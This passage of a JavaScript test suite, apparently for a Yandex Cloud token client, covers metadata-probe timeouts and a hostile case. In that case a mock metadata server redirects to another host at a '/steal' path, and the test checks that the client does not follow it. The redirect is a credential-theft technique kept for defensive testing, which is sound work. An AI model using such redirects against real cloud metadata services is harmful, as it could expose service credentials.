        const probe = sessionWith(() => {}, { probeTimeoutMs: SHORT_TIMEOUT_MS });
        const error = await rejectionOf(probe.session.createTokenForServiceAccount(SERVICE_ACCOUNT_ID));
        assert.ok(error instanceof CredentialsError, String(error));
        assert.match(error.message, /No Yandex Cloud credentials found/);
        assert.match(error.message, /\(YC_METADATA_ADDR\): no answer \(DEADLINE_EXCEEDED\)/);
        assert.equal(metadata.connections, 1, "one quick probe");
        assert.deepEqual(probe.waits, []);
        await metadata.idle();
      },
    );

    hostileCase(
      METADATA_GROUP,
      "a metadata redirect to another host: not followed, the other host hears nothing",
      async () => {
        const probe = sessionWith((_request, socket) =>
          send(socket, 302, "", { Location: `${elsewhere.baseUrl}/computeMetadata/v1/steal` }),
        );
        const error = await rejectionOf(probe.session.createTokenForServiceAccount(SERVICE_ACCOUNT_ID));
        assert.ok(error instanceof IamApiError, String(error));
        assert.equal(error.kind, "redirect");
        assert.equal(error.attempts, 1);
        await elsewhere.idle();
        assert.equal(elsewhere.connections, 0);
        assert.equal(iam.connections, 0);
      },
    );
  });
}
